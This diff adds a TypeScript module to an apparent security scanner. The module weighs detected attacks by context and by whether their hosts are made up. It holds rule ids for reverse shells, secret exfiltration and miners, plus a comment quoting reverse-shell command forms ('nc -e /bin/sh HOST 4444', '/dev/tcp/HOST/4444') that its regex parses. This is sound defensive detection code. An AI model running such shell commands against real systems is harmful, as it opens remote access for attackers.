@@ -1,0 +1,80 @@
+import type { Fact } from '../code/trace.ts'
+import { marksOf } from '../code/value.ts'
+import type { Purpose } from '../declared-purpose.ts'
+import type { Evidence } from '../evidence.ts'
+import { RULES, type RuleId } from '../rules.ts'
+import { hostRelation } from '../text/host-relation.ts'
+import { isMadeUpHost } from '../text/made-up-host.ts'
+import { parseUrl } from '../text/urls.ts'
+import { isAboutSecurity, isHiddenBy } from './judge-execution.ts'
+
+/** Rules that see a whole attack: it works for whoever copies it, so no words around it make it harmless. */
+const WORKING: ReadonlySet<RuleId> = new Set<RuleId>([
+  'scan/decoded-command',
+  'scan/remote-code',
+  'scan/remote-installer',
+  'scan/hidden-file-run',
+  'scan/reverse-shell',
+  'scan/remote-shell',
+  'scan/miner',
+  'scan/password-archive',
+  'scan/poisoned-index',
+  'scan/secret-exfiltration',
+  'scan/secret-to-capture',
+  'scan/secret-to-stranger',
+  'scan/dns-tunnel',
+  'scan/hidden-persistence',
+])
+
+/**
+ * What the words around a command make of what was found in it. Shown as something bad it becomes a note. A whole attack on
+ * an address that somebody may stand behind does not: a sentence that forbids it, or a heading in a skill about security,
+ * makes it a matter for a reviewer, and a heading elsewhere makes no difference.
+ */
+export function weighRole(found: Evidence, purpose: Purpose): Evidence {
+  const { fact, rule } = found
+  if (fact === undefined || RULES[rule].effect === 'note') return found
+  const { role, origin, layers } = fact.place
+  const asNote: Evidence = { ...found, rule: 'scan/quoted-attack' }
+  if (isMadeUp(fact, purpose)) {
+    const isShown = role !== 'asked' || (rule === 'scan/remote-code' && isAboutSecurity(purpose))
+    return isShown && origin !== 'script' ? asNote : found
+  }
+  if (role === 'asked' || isHiddenBy(layers)) return found
+  if (!WORKING.has(rule)) return asNote
+  const isExample = role === 'forbidden' || isAboutSecurity(purpose)
+  return isExample && RULES[rule].effect === 'block' ? { ...found, rule: 'scan/working-attack' } : found
+}
+
+// Every address it names is made up. Code that names none may have it elsewhere; a command line has it or is none.
+function isMadeUp(fact: Fact, purpose: Purpose): boolean {
+  const hosts = hostsOf(fact)
+  if (fact.kind === 'remote-shell' && fact.targets.length > 0 && hosts.length === 0) return true
+  return hosts.length > 0 && hosts.every((host) => isMadeUpHost(host) || isNowhere(host, purpose))
+}
+
+function isNowhere(host: string, purpose: Purpose): boolean {
+  const relation = hostRelation(`tcp://${host}`, purpose)
+  return relation === 'unknown' || relation === 'local'
+}
+
+function hostsOf(fact: Fact): string[] {
+  if (fact.kind === 'remote-shell') return fact.targets.flatMap(hostsInWords)
+  const fetched = marksOf(fact.value).flatMap((mark) => (mark.startsWith('net:') ? [mark.slice(4)] : []))
+  const asked = fact.kind === 'request' || fact.kind === 'lookup' || fact.kind === 'miner' ? fact.targets : []
+  return [...fetched, ...asked].flatMap((url) => {
+    const host = parseUrl(url)?.host
+    // Data in front of a name is what is sent there; the name is the rest.
+    return host === undefined ? [] : [host.replace(/^(?:[^.]*\uFFFC[^.]*\.)+(?=[^.]+\.)/, '')]
+  })
+}
+
+// `nc -e /bin/sh HOST 4444`, `/dev/tcp/HOST/4444`, `TCP:HOST:4444`.
+function hostsInWords(line: string): string[] {
+  const found = [
+    ...line.matchAll(
+      /\/dev\/(?:tcp|udp)\/([^/\s]+)|(?:^|[\s:@('"])((?:[\w-]+\.)+[\w-]+|[A-Z][A-Z0-9]*_[A-Z0-9_]+|<[^>\s]+>|\$\{?\w+\}?|\uFFFC)(?=$|[\s:,)'"])/g,
+    ),
+  ]
+  return found.map((match) => match[1] ?? match[2] ?? '')
+}
